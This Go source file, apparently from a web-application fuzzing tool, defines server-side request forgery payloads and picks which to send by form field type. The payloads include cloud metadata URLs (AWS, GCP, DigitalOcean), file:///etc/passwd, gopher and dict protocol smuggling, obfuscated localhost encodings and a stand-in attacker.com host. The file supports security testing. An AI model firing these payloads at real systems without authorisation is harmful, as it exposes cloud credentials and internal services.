package payloads

import (
	"github.com/PentesterFlow/OpenFuzzer/internal/browser"
)

// SSRFProvider supplies server-side request forgery payloads.
type SSRFProvider struct{}

func (SSRFProvider) Category() Category { return CategorySSRF }

var ssrfLocalhost = []Payload{
	{Value: "http://localhost/", Category: CategorySSRF, Name: "Basic Localhost",
		Description: "Basic SSRF targeting localhost"},
	{Value: "http://127.0.0.1/", Category: CategorySSRF, Name: "IPv4 Localhost",
		Description: "SSRF using IPv4 localhost"},
	{Value: "http://[::1]/", Category: CategorySSRF, Name: "IPv6 Localhost",
		Description: "SSRF using IPv6 localhost"},
}

var ssrfInternalNetwork = []Payload{
	{Value: "http://192.168.0.1/", Category: CategorySSRF, Name: "Internal Router",
		Description: "SSRF targeting common internal router IP"},
	{Value: "http://10.0.0.1/", Category: CategorySSRF, Name: "Internal Network",
		Description: "SSRF targeting internal network"},
	{Value: "http://172.16.0.1/", Category: CategorySSRF, Name: "Internal Network",
		Description: "SSRF targeting internal network"},
}

var ssrfCloudMetadata = []Payload{
	{Value: "http://169.254.169.254/latest/meta-data/", Category: CategorySSRF, Name: "AWS Metadata",
		Description: "SSRF targeting AWS metadata service"},
	{Value: "http://metadata.google.internal/computeMetadata/v1/", Category: CategorySSRF, Name: "GCP Metadata",
		Description: "SSRF targeting Google Cloud metadata service"},
	{Value: "http://169.254.169.254/metadata/v1/", Category: CategorySSRF, Name: "DigitalOcean Metadata",
		Description: "SSRF targeting DigitalOcean metadata service"},
}

var ssrfProtocolSmuggling = []Payload{
	{Value: "gopher://localhost:25/xHELO%20localhost", Category: CategorySSRF, Name: "Gopher SMTP",
		Description: "SSRF using Gopher protocol to access SMTP"},
	{Value: "file:///etc/passwd", Category: CategorySSRF, Name: "Local File",
		Description: "SSRF using file protocol to read local files"},
	{Value: "dict://localhost:11211/info", Category: CategorySSRF, Name: "Dict Memcached",
		Description: "SSRF using dict protocol to access Memcached"},
}

var ssrfObfuscation = []Payload{
	{Value: "http://0177.0.0.1/", Category: CategorySSRF, Name: "Octal Encoding",
		Description: "SSRF using octal encoding of IP"},
	{Value: "http://2130706433/", Category: CategorySSRF, Name: "Decimal Encoding",
		Description: "SSRF using decimal encoding of IP"},
	{Value: "http://localhost.attacker.com/", Category: CategorySSRF, Name: "DNS Subdomain",
		Description: "SSRF using DNS subdomain confusion"},
}

func allSSRF() []Payload {
	out := make([]Payload, 0)
	out = append(out, ssrfLocalhost...)
	out = append(out, ssrfInternalNetwork...)
	out = append(out, ssrfCloudMetadata...)
	out = append(out, ssrfProtocolSmuggling...)
	out = append(out, ssrfObfuscation...)
	return out
}

// PayloadsFor filters the SSRF set by field type. Only URL-like fields
// get the full set; everything else gets the localhost probes.
func (SSRFProvider) PayloadsFor(fieldType browser.FieldType) []Payload {
	switch fieldType {
	case browser.FieldURL, browser.FieldText, browser.FieldSearch:
		return allSSRF()
	case browser.FieldFile:
		out := make([]Payload, 0, len(ssrfLocalhost)+len(ssrfCloudMetadata))
		out = append(out, ssrfLocalhost...)
		out = append(out, ssrfCloudMetadata...)
		return out
	default:
		return clonePayloads(ssrfLocalhost)
	}
}
